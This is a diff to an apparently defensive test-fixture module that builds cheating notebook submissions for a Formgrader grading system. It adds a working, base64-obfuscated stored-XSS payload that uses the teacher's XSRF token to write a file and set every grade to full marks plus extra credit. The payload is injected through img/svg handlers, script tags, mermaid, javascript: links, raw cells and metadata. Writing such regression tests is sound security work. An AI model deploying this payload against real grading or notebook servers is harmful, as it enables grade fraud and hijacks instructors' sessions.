@@ -137,6 +137,36 @@ _leak("started")
 """
 
 
+# Script in the written answer (#40): in the teacher's Formgrader session it wrote a file through
+# /api/contents and gave the submission full marks plus extra credit through /formgrader/api/grade.
+# Every way Markdown can carry script: raw HTML (img onerror, script, svg onload), a mermaid block
+# (nbconvert writes it out unescaped), a javascript: link, MathJax's \href; the same in a cell the
+# student adds, in a raw cell (nbconvert writes raw cells out as HTML) and in cell and notebook
+# metadata. tests/test_assignments.py opens the submission in the Formgrader in Chromium.
+XSS_JS = (
+    "window.__ccb_xss=(window.__ccb_xss||0)+1;(async()=>{const x=decodeURIComponent("
+    "(document.cookie.match(/_xsrf=([^;]+)/)||[0,''])[1]);const h={'Content-Type':'application/json',"
+    "'X-XSRFToken':x};await fetch('/api/contents/pwned.txt',{method:'PUT',headers:h,body:JSON.stringify("
+    "{type:'file',format:'text',content:'pwned'})});const s=location.pathname.split('/').filter(Boolean).pop();"
+    "const g=await(await fetch('/formgrader/api/grades?submission_id='+s)).json();for(const r of g){await "
+    "fetch('/formgrader/api/grade/'+r.id,{method:'PUT',headers:h,body:JSON.stringify({manual_score:r.max_score,"
+    "extra_credit:50})});}})();"
+)
+XSS_MARKER = "XSS-MARKER-TEXT"
+
+
+def _xss_markdown() -> str:
+    import base64
+
+    run = f"eval(atob('{base64.b64encode(XSS_JS.encode()).decode()}'))"
+    return (
+        f'{XSS_MARKER}：证明见下。 <img src=x onerror="{run}"> <svg onload="{run}"></svg>\n\n'
+        f"<script>{run}</script>\n\n"
+        f'```mermaid\n<img src=x onerror="{run}">\n```\n\n'
+        f"[点这里](javascript:{run}) 与 $\\href{{javascript:{run}}}{{x}} + a < b$\n"
+    )
+
+
 def _leaking(answers: dict, functions) -> dict:
     """Each answer cell followed by a wrapper of its function that sends the call's arguments out."""
     out = dict(answers)
@@ -315,6 +345,17 @@ def submissions(ps: str, release, source, library: dict, course_paths: dict) -> 
     crash[functions[1][0]] = "import os\nos._exit(3)\n"
     crash[functions[2][0]] = f"def {functions[2][1]}(*args, **kwargs):\n    import os\n    os._exit(4)\n"
     out["crash"] = _with(release, crash)
+    xss = _with(release, blank)
+    written = next(c for c in xss.cells if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("solution"))
+    written.source = _xss_markdown()
+    position = next(i for i, c in enumerate(xss.cells) if c.cell_type == "code") + 1
+    xss.cells[position:position] = [
+        nbformat.v4.new_markdown_cell(_xss_markdown(), metadata={"tags": ['x" onmouseover="alert(1)']}),
+        nbformat.v4.new_raw_cell(_xss_markdown(), metadata={"raw_mimetype": "text/html"}),
+        nbformat.v4.new_raw_cell(_xss_markdown()),
+    ]
+    xss.metadata["title"] = "</title><script>alert(1)</script>"
+    out["xss"] = xss
     out["escape"] = _with(
         release,
         _leaking(_reference_answers(source), functions),
@@ -337,6 +378,6 @@ def crash_points(release, source, parts: dict) -> dict:
 
 
 #: What each cheat scores: 0 on every autograded part ("crash" is checked part by part)…
-ZERO_EVERYWHERE = ("hooks", "tamper", "stash", "course", "lookalikes", "probe", "edited")
+ZERO_EVERYWHERE = ("hooks", "tamper", "stash", "course", "lookalikes", "probe", "edited", "xss")
 #: …or full marks on every autograded part: the cheat does not change a grade, it tries to get out.
 FULL_MARKS = ("escape",)
